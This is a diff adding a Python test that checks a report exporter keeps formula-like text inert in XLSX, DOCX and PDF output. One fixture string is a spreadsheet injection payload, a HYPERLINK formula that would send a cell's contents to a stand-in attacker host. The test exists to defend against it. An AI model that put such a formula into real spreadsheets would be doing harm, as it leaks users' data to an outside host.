@@ -1,6 +1,7 @@
 """The implementation report: sections and measures in number order, the right text, every format read back."""
 
 import io
+import zipfile
 from datetime import UTC, date, datetime
 
 import docx
@@ -165,3 +166,27 @@ def test_an_empty_report_renders_in_every_format(w):
     assert report.rows == []
     for renderer in render.RENDERERS.values():
         assert renderer(report)
+
+
+def test_text_that_looks_like_a_formula_stays_text_in_every_format(w):
+    """An executive body's report reads ``=HYPERLINK(...)``: the controller's spreadsheet shows it, never runs it."""
+    act = make_act(title="=1+2")
+    evil = '=HYPERLINK("http://evil.example/?leak="&B5,"Open the evidence")'
+    task = make_task(act, "1", title="@SUM(A1:A9)", indicator="+1", period_start=date(2026, 1, 1),
+                     period_end=date(2026, 12, 31))
+    make_report(make_assignment(task, w.sa), text=evil)
+    report = implementation.build(act, 2026, w.sa)
+
+    data = render.to_xlsx(report)
+    sheet = openpyxl.load_workbook(io.BytesIO(data)).active
+    measure = [c for c in sheet[4]]
+    assert [c.value for c in measure] == ["1", "@SUM(A1:A9)", "+1", "2026", evil]
+    assert all(c.data_type == "s" for c in measure if c.value)
+    assert sheet["A1"].data_type == "s" and sheet["A1"].value.startswith("Report on the implementation of =1+2")
+    with zipfile.ZipFile(io.BytesIO(data)) as package:
+        assert not any(b"<f>" in package.read(name) for name in package.namelist() if name.endswith(".xml"))
+
+    document = docx.Document(io.BytesIO(render.to_docx(report)))
+    assert document.tables[0].rows[1].cells[4].text == evil
+    assert b"instrText" not in render.to_docx(report) and b"fldSimple" not in render.to_docx(report)
+    assert "HYPERLINK" in " ".join(pdf_text(render.to_pdf(report)).split())
